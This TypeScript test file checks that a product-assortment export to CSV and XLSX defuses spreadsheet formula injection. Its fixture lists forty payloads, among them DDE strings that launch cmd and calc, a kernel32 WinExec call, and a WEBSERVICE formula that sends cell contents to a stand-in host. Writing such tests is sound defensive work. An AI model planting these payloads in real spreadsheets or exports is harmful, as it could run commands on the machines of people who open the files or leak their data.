import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { assortmentSheet, type ExportedItem } from '#domain/desk/assortment/export-sheet.ts'
import { readGiven } from '#domain/desk/assortment/import-cells.ts'
import { sheetCsv } from '#domain/sheet/sheet.ts'
import { writeXlsx } from '../../lib/write-xlsx.ts'
import { parseCsv } from '../../lib/parse-csv.ts'
import { readRows } from '../../lib/read-rows.ts'
import { readTable as tableOf } from './read-table.ts'

const readTable = async (bytes: Uint8Array) => tableOf(await readRows(bytes))

// Formula injection (docs/security-suites.md): texts that a spreadsheet would execute, in every text column of an export.
const formulas = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("https://zly.example","klik")',
  '=WEBSERVICE("https://zly.example/"&A1)',
  '=IMPORTXML("https://zly.example","//a")',
  '=IMPORTDATA("https://zly.example")',
  '=IMAGE("https://zly.example/x.png")',
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!x",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=EXEC("calc")',
  '=CALL("kernel32";"WinExec";"JC";"calc")',
  '=REGISTER.ID("x";"y")',
  '=INFO("numfile")',
  '=CELL("filename")',
  '=INDIRECT("A"&1)',
  '={1;2}',
  '==1',
  '= 1',
  '+1+1',
  '+420',
  "+cmd|'/C calc'!A0",
  '++1',
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '--1',
  '-5',
  '@SUM(1+1)',
  '@A1',
  '@cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=2+2',
  '=1+1\n=2+2',
]
const isRun = /^[=+\-@\t\r\n\0＝＋－＠]/u
const item = (text: string): ExportedItem => ({
  sku: text,
  name: text,
  genericName: text,
  otherNames: [text],
  category: text,
  type: 'product',
  unit: 'ks',
  price: null,
  vatRate: 12,
  brand: text,
  description: text,
  composition: '',
  allergens: '',
  isAdultsOnly: false,
  isStorable: false,
  isActive: true,
  isBlocked: false,
})
const items = formulas.map(item)

test('there are forty texts', () => {
  expect(new Set(formulas).size).toBe(40)
  expect(formulas.every((text) => isRun.test(text))).toBe(true)
})

test('in a CSV none begins a cell, in either style, and an import restores the text', () => {
  for (const style of ['czech', 'machine'] as const) {
    const { rows } = parseCsv(sheetCsv(assortmentSheet, items, style).replace(/^\uFEFF/, ''), style === 'czech' ? ';' : ',', 100)
    expect(rows).toHaveLength(41)
    for (const { cells } of rows!) expect(cells.filter((cell) => isRun.test(cell))).toEqual([])
    rows!.slice(1).forEach(({ cells }, i) => {
      const { given } = readGiven(['sku', 'description'], ['X', cells[10]!])
      expect(given.description ?? '').toBe(formulas[i]!.replaceAll(/\r\n?/g, '\n').trim())
    })
  }
})

test('in an XLSX each is a text, and none a formula', async () => {
  const workbook = new Uint8Array(await (await writeXlsx(assortmentSheet, items, null)).arrayBuffer())
  const sheet = strFromU8(unzipSync(workbook)['xl/worksheets/sheet1.xml']!)
  expect(sheet).not.toMatch(/<f[ >]/)
  // The sheet refers to texts by index; only numbers appear in it directly.
  const texts = [...sheet.matchAll(/<c r="[ABCDEJK](?!1")\d+"([^>]*)>/g)].map(([, attributes]) => attributes)
  expect(texts).toHaveLength(7 * 40)
  expect(texts.every((attributes) => attributes!.includes('t="s"'))).toBe(true)
  const { table } = await readTable(workbook)
  expect(table!.rows).toHaveLength(40)
})

test('a text with its own apostrophe before a formula keeps it', async () => {
  const texts = ["'=1+1", "''@a", "'a", '=1+1']
  const { table } = await readTable(new Uint8Array(await (await writeXlsx(assortmentSheet, texts.map(item), null)).arrayBuffer()))
  const at = table!.columns.indexOf('description')
  expect(table!.rows.map(({ cells }) => readGiven(['description'], [cells[at]!]).given.description)).toEqual(texts)
})
